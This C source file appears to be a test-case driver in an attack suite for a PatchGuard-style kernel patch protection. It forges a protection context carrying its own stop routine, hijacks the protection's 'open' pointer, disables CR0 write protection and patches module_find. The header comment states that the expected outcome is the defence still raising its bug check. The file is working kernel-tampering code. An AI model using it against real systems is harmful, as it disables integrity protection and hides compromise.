/* attack_a77_fake_context (A77): choose the stop routine of PatchGuard's
 * next detection. Detections outside a pass (the tick hook, the NMI) use
 * the context the interrupted code has open, found through PatchGuard's
 * plain "open" pointer and "busy" flag; a context's private pointer to
 * the stop routine is what the detection calls. The driver points "open"
 * at a context of its own (the magic, no regions, its own stop routine),
 * sets "busy", patches module_find (jmp to itself, as attack_a49) and spins
 * for ever with interrupts masked, where only the NMI runs: its checks use
 * the driver's context, and its detection calls the driver's routine,
 * which writes one line to COM1 and halts. Expected: 0x109 type 0x1 or
 * 0x101 with PatchGuard's own stop routine (an open pointer no slot leads
 * to is not trusted). */
#include "attack_pg.h"

#define COM1 0x3F8

static struct pg_context fake __attribute__((aligned(64)));

static void put(const char *s)
{
	for (; *s; s++) {
		while (!(a_inb(COM1 + 5) & 0x20))
			;
		a_outb(COM1, (uint8_t)*s);
	}
}

static void swallow(uint32_t code, uint64_t p1, uint64_t p2, uint64_t p3, uint64_t p4, const struct trap_frame *tf)
{
	put("attack_a77: the detection called the driver's stop routine; no bug check\n");
	for (;;)
		__asm__ volatile("cli; hlt");
}

status_t driver_entry(struct driver_object *drv)
{
	static const uint8_t jmp_self[5] = {0xE9, 0xFB, 0xFF, 0xFF, 0xFF}; /* jmp to itself */
	uint64_t pf = a_cli();
	struct pg_state *pg = a_find_pg();
	if (!pg) {
		printk("attack_a77: PatchGuard's state not found\n");
		a_restore(pf);
		return KPP_STATUS_UNSUCCESSFUL;
	}
	fake.magic = PG_CONTEXT_MAGIC;
	fake.stop = swallow;
	printk("attack_a77: PatchGuard's open context pointed at the driver's, interrupts off, module_find patched, spinning\n");
	a_patched("attack_a77");
	pg->open = &fake;
	pg->busy = true;
	uint64_t cr0 = a_read_cr0();
	a_write_cr0(cr0 & ~A_CR0_WP);
	volatile uint8_t *d = (volatile uint8_t *)&module_find;
	for (size_t i = 0; i < sizeof jmp_self; i++)
		d[i] = jmp_self[i];
	a_write_cr0(cr0);
	for (;;)
		__asm__ volatile("pause" ::: "memory");
	return KPP_STATUS_SUCCESS;
}
